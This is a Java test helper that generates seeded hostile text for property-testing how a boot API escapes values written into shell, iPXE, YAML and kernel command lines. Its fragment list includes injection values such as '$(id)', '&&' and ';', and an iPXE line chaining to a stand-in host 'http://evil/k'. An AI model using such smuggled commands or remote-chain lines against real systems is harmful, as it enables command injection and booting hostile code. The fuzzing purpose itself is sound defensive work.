package org.rackboot.api.boot;

import java.util.List;
import java.util.SplittableRandom;

/**
 * Hostile text for property tests, drawn from a seeded {@link SplittableRandom}: the same seed
 * gives the same sequence of values. Five kinds, picked at random for each value:
 *
 * <ul>
 *   <li>any UTF-16 text: every char from U+0000 to U+FFFF, so NUL, controls, line breaks and lone
 *       surrogates, with the edges of each range drawn more often;
 *   <li>text of the characters that matter to a shell, iPXE, YAML or a kernel command line;
 *   <li>a run of {@link #INTERESTING} fragments ({@code ${}, {@code &&}, {@code ||}, {@code ;},
 *       {@code #}, quotes, backslashes, line breaks, surrogate halves, ...);
 *   <li>those fragments mixed with random code points, supplementary and surrogate ones included;
 *   <li>plain words: lowercase letters separated by single spaces.
 * </ul>
 *
 * <p>Now and then a value is an edge case instead: the empty string, one fragment or one edge
 * char on its own.
 */
final class ArbitraryText {

  /** Fragments that mean something to some parser a value passes through. */
  static final List<String> INTERESTING = List.of("${", "${net0/mac}", "}", "&&", "||", ";",
      "#", "#!ipxe", "\n", "\r", "\r\n", "\u0000", "\t", "\u000b", "\u0085", "\u2028", "\u2029",
      "\ud800", "\udc00", "\ud83d\ude00", "\"", "'", "\\", "`", "$(id)", " ", "  ", "=",
      "chain http://evil/k", ":label", "goto failed", "%pre", "d-i ", "- ", ": ", "{{x}}",
      "quiet", "console=ttyS0", "a=\"b c\"", "é", "\ufeff", "\u007f");

  /** The alphabet of the second kind. */
  private static final String SPECIAL_CHARS = "ab=. \"'\\$#;&|{}\n\r\t\u0000/:,-_@+";

  /** Chars at the edges of their ranges, drawn more often than their share of U+0000..U+FFFF. */
  private static final char[] EDGE_CHARS = {'\u0000', '\u0001', '\t', '\n', '\u000b', '\f', '\r',
      ' ', 'a', '\u007f', '\u0080', '\u0085', '\u00a0', '\u2028', '\u2029', '\ud7ff', '\ud800',
      '\udbff', '\udc00', '\udfff', '\ue000', '\ufeff', '\ufffe', '\uffff'};

  private static final int ANY_TEXT_MAX = 40;
  private static final int SPECIALS_MAX = 30;
  private static final int PIECES_MAX = 6;
  private static final int MIXED_MAX = 10;

  private final SplittableRandom random;

  ArbitraryText(long seed) {
    this.random = new SplittableRandom(seed);
  }

  /** The next value. */
  String next() {
    if (random.nextInt(20) == 0) {
      return edgeCase();
    }
    return switch (random.nextInt(5)) {
      case 0 -> anyText();
      case 1 -> specials();
      case 2 -> pieces();
      case 3 -> mixed();
      default -> words();
    };
  }

  boolean nextBoolean() {
    return random.nextBoolean();
  }

  private String edgeCase() {
    return switch (random.nextInt(3)) {
      case 0 -> "";
      case 1 -> pick(INTERESTING);
      default -> String.valueOf(EDGE_CHARS[random.nextInt(EDGE_CHARS.length)]);
    };
  }

  /** Any chars at all, up to 40. */
  private String anyText() {
    int n = length(ANY_TEXT_MAX);
    StringBuilder s = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      s.append(random.nextInt(4) == 0 ? EDGE_CHARS[random.nextInt(EDGE_CHARS.length)]
          : (char) random.nextInt(0x10000));
    }
    return s.toString();
  }

  /** Up to 30 of the characters that matter to the languages a value is written into. */
  private String specials() {
    int n = length(SPECIALS_MAX);
    StringBuilder s = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      s.append(SPECIAL_CHARS.charAt(random.nextInt(SPECIAL_CHARS.length())));
    }
    return s.toString();
  }

  /** Up to 6 interesting fragments, back to back. */
  private String pieces() {
    int n = length(PIECES_MAX);
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < n; i++) {
      s.append(pick(INTERESTING));
    }
    return s.toString();
  }

  /** 1 to 10 parts, each an interesting fragment, a random code point or a printable char. */
  private String mixed() {
    int n = 1 + random.nextInt(MIXED_MAX);
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < n; i++) {
      switch (random.nextInt(3)) {
        case 0 -> s.append(pick(INTERESTING));
        // All of U+0000..U+10FFFF: a surrogate code point is written as a lone surrogate.
        case 1 -> s.appendCodePoint(random.nextInt(Character.MAX_CODE_POINT + 1));
        default -> s.append((char) (0x20 + random.nextInt(0x7f - 0x20)));
      }
    }
    return s.toString();
  }

  /** 1 to 4 words of 1 to 8 letters a-z, separated by single spaces. */
  private String words() {
    int n = 1 + random.nextInt(4);
    StringBuilder s = new StringBuilder();
    for (int i = 0; i < n; i++) {
      if (i > 0) {
        s.append(' ');
      }
      int len = 1 + random.nextInt(8);
      for (int j = 0; j < len; j++) {
        s.append((char) ('a' + random.nextInt(26)));
      }
    }
    return s.toString();
  }

  /** 0 to max, short lengths more often than long ones, and each bound now and then. */
  private int length(int max) {
    int r = random.nextInt(10);
    if (r == 0) {
      return 0;
    }
    if (r == 1) {
      return max;
    }
    return random.nextInt(random.nextInt(max) + 1) + 1;
  }

  private String pick(List<String> from) {
    return from.get(random.nextInt(from.size()));
  }

  /**
   * {@code s} as a Java string literal that compiles back to the same chars: printable ASCII as
   * is, everything else escaped ({@code \n}, {@code \r} and friends by name, the rest as
   * {@code \}{@code uXXXX}, so a lone surrogate shows as one).
   */
  static String javaLiteral(String s) {
    StringBuilder out = new StringBuilder(s.length() + 2).append('"');
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        case '\n' -> out.append("\\n");
        case '\r' -> out.append("\\r");
        case '\t' -> out.append("\\t");
        case '\b' -> out.append("\\b");
        case '\f' -> out.append("\\f");
        default -> {
          if (c >= 0x20 && c < 0x7f) {
            out.append(c);
          } else {
            out.append(String.format("\\u%04x", (int) c));
          }
        }
      }
    }
    return out.append('"').toString();
  }
}
